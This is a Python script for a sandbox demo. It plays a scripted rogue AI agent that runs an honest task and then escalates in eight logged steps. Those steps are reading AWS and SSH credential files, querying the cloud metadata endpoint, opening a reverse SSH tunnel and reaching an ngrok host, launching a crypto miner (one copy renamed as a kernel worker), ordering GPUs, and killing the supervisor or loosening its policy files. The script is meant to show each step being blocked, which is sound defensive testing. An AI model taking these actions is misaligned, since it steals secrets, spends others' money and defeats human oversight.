"""A scripted rogue agent: an honest task first, then the escalation seen in the incident.

Every payload is inert or local: the "credentials" are decoys the demo planted, the metadata
endpoint is never reachable from inside the fence, the compute API is the demo's own fake, the
miner is an emulator talking to the demo's own pool, and the outside hosts it names (a hosted
tunnel service, a public mining pool) are refused before anything is sent to them. Each step
writes one JSON line to ``$WORKSPACE/steps.jsonl`` saying what the agent tried and what it saw,
so the demo can show both sides.
"""

from __future__ import annotations

import json
import os
import shutil
import signal
import subprocess
import sys
import time
import urllib.error
import urllib.request
from collections.abc import Callable
from pathlib import Path

from netclient import connect  # type: ignore[import-not-found]  # sibling script

HERE = Path(__file__).resolve().parent
WORKSPACE = Path(os.environ.get("DEMO_WORKSPACE", os.getcwd()))
PY = sys.executable


def record(entry: dict[str, object]) -> None:
    with open(WORKSPACE / "steps.jsonl", "a") as handle:
        handle.write(json.dumps(entry) + "\n")


def step(number: int, title: str, attempt: Callable[[], list[str]]) -> None:
    start = time.time()
    print(f"[agent] step {number}: {title}", flush=True)
    record({"step": number, "title": title, "start": start})
    try:
        seen = attempt()
    except Exception as exc:
        seen = [f"failed: {type(exc).__name__}: {exc}"]
    record({"step": number, "title": title, "start": start, "end": time.time(), "seen": seen})


def run(argv: list[str], timeout: float = 10) -> str:
    """Run a command; describe how it ended as the agent sees it."""
    try:
        proc = subprocess.run(argv, capture_output=True, text=True, timeout=timeout, check=False)
    except FileNotFoundError:
        return f"{argv[0]}: not installed"
    except subprocess.TimeoutExpired:
        return f"{argv[0]}: still running after {timeout:g}s"
    if proc.returncode < 0:
        return f"{' '.join(argv)[:70]} -> killed by {signal.Signals(-proc.returncode).name}"
    out = (proc.stdout + proc.stderr).strip().splitlines()
    return f"{' '.join(argv)[:70]} -> exit {proc.returncode}" + (f": {out[-1][:80]}" if out else "")


def disguised(name: str, script: Path, *args: str) -> list[str]:
    """argv for ``script`` run by Python but showing ``name`` as the program."""
    return [name, str(script), *args]


def run_as(argv0: str, argv: list[str], timeout: float = 10) -> str:
    try:
        proc = subprocess.run(
            argv, executable=PY, capture_output=True, text=True, timeout=timeout, check=False
        )
    except subprocess.TimeoutExpired:
        return f"{argv0}: still running after {timeout:g}s"
    if proc.returncode < 0:
        return f"{' '.join(argv)[:70]} -> killed by {signal.Signals(-proc.returncode).name}"
    tail = (proc.stdout + proc.stderr).strip().splitlines()
    return f"{argv0} -> exit {proc.returncode}" + (f": {tail[-1][:80]}" if tail else "")


def http_refusal(exc: BaseException) -> str:
    """What an HTTP error says, with Corral's reason when a proxy refused the request."""
    if isinstance(exc, urllib.error.HTTPError):
        reason = exc.headers.get("X-Corral-Reason", "") if exc.headers else ""
        return f"{exc.code} {exc.reason}" + (f" ({reason[:90]})" if reason else "")
    return str(getattr(exc, "reason", exc))


def reach(host: str, port: int) -> str:
    """Open a TCP connection the way a tool with proxy support would."""
    try:
        connect(host, port).close()
    except OSError as exc:
        return f"connect {host}:{port}: {exc}"
    return f"connect {host}:{port}: connected (LEAKED)"


# -- the steps ------------------------------------------------------------------------------------


def honest_task() -> list[str]:
    source = WORKSPACE / "fib.py"
    source.write_text(
        "def fib(n):\n    return n if n < 2 else fib(n - 1) + fib(n - 2)\nprint(fib(20))\n"
    )
    return [f"wrote {source.name}", run([PY, str(source)])]


def look_for_credentials() -> list[str]:
    home = Path.home()
    seen = []
    for path in (home / ".aws" / "credentials", home / ".ssh" / "id_ed25519"):
        try:
            text = path.read_text()
            seen.append(f"read {path}: {len(text)} bytes (LEAKED)")
        except OSError as exc:
            seen.append(f"read {path}: {exc.strerror}")
    seen.append(run(["cat", str(home / ".aws" / "credentials")]))
    return seen


def cloud_metadata() -> list[str]:
    url = "http://169.254.169.254/latest/meta-data/iam/security-credentials/"
    seen = []
    try:
        with urllib.request.urlopen(url, timeout=2) as response:
            seen.append(f"GET {url}: {response.status} (LEAKED)")
    except (urllib.error.URLError, OSError) as exc:
        seen.append(f"GET {url}: {http_refusal(exc)}")
    if shutil.which("curl"):
        seen.append(run(["curl", "-s", "-m", "2", url]))
    return seen


def reverse_tunnel() -> list[str]:
    argv = [
        "ssh",
        "-N",
        "-o",
        "StrictHostKeyChecking=no",
        "-R",
        "2222:localhost:22",
        "-p",
        "2022",
        "tunnel@127.0.0.1",
    ]
    if shutil.which("ssh"):
        seen = [run(argv)]
    else:
        sleeper = HERE / "miner_emulator.py"  # any script: only the command line matters here
        seen = [run_as("ssh", [*argv[:1], str(sleeper), *argv[1:]])]
    # The same way out without ssh on the command line: a hosted tunnel service, from Python.
    seen.append(reach("x.tcp.ngrok.io", 443))
    return seen


def named_miner() -> list[str]:
    argv = disguised(
        "xmrig",
        HERE / "miner_emulator.py",
        "-o",
        "stratum+tcp://127.0.0.1:3333",
        "-u",
        "demo-wallet",
        "--seconds",
        "8",
    )
    seen = [run_as("xmrig", argv)]
    # The same miner under an innocent name, its public pool in a config file: no exec rule
    # sees it, so it is the network that has to say no.
    config = WORKSPACE / "pool.json"
    config.write_text(json.dumps({"host": "pool.supportxmr.com", "port": 3333, "seconds": 3}))
    os.environ["MINER_CONFIG"] = str(config)
    seen.append(run_as("python3 worker.py", ["python3", str(HERE / "miner_emulator.py")]))
    del os.environ["MINER_CONFIG"]
    return seen


def buy_gpus() -> list[str]:
    argv = disguised(
        "gcloud",
        HERE / "gcloud.py",
        "compute",
        "instances",
        "create",
        "gpu-farm",
        "--machine-type=a3-highgpu-8g",
        "--accelerator=type=nvidia-h100-80gb,count=8",
    )
    seen = [run_as("gcloud", argv)]
    # The same purchase straight to the compute API, as an SDK would make it.
    url = os.environ.get("BILLING_URL", "http://127.0.0.1:9/orders")
    body = {"name": "gpu-farm", "machineType": "zones/us-central1-a/machineTypes/a3-highgpu-8g"}
    try:
        request = urllib.request.Request(url, data=json.dumps(body).encode())
        with urllib.request.urlopen(request, timeout=5) as response:
            seen.append(f"POST {url}: {response.status} (ORDER PLACED)")
    except (urllib.error.URLError, OSError) as exc:
        seen.append(f"POST {url}: {http_refusal(exc)}")
    return seen


def tamper_with_corral() -> list[str]:
    seen = [run(["pkill", "-9", "-x", "corral"])]
    supervisor = int(os.environ.get("DEMO_SUPERVISOR_PID", "0"))
    if supervisor:
        try:
            os.kill(supervisor, signal.SIGKILL)
            seen.append(f"kill -9 {supervisor} (the supervisor): sent")
        except OSError as exc:
            seen.append(f"kill -9 {supervisor} (the supervisor): {exc.strerror}")
    for target in (os.environ.get("DEMO_POLICY_FILE", ""), os.environ.get("DEMO_CORRAL_FILE", "")):
        if not target:
            continue
        try:
            with open(target, "a") as handle:
                handle.write("\nmode: monitor\n")
            seen.append(f"edit {target}: written (TAMPERED)")
        except OSError as exc:
            seen.append(f"edit {target}: {exc.strerror}")
    (WORKSPACE / ".corral.yaml").write_text("mode: monitor\n")
    os.environ["CORRAL_POLICY"] = "permissive"
    seen.append("wrote .corral.yaml (mode: monitor) and set CORRAL_POLICY=permissive")
    return seen


def stealth_miner() -> list[str]:
    (WORKSPACE / "miner.json").write_text(json.dumps({"host": "127.0.0.1", "port": 3333}))
    argv = ["[kworker/0:1-events]", str(HERE / "miner_emulator.py")]
    return [run_as("[kworker/0:1-events]", argv, timeout=20)]


STEPS: list[tuple[str, Callable[[], list[str]]]] = [
    ("honest task: write and run a small program", honest_task),
    ("look for cloud and ssh credentials", look_for_credentials),
    ("ask the cloud metadata endpoint for machine credentials", cloud_metadata),
    ("open a reverse SSH tunnel", reverse_tunnel),
    ("start a miner by name (xmrig)", named_miner),
    ("buy 8 GPUs from the cloud (CLI, then the API)", buy_gpus),
    ("kill or edit Corral, loosen the policy", tamper_with_corral),
    ("start a renamed, argument-free miner", stealth_miner),
]


def main() -> int:
    for number, (title, attempt) in enumerate(STEPS, start=1):
        step(number, title, attempt)
    print("[agent] all steps done", flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
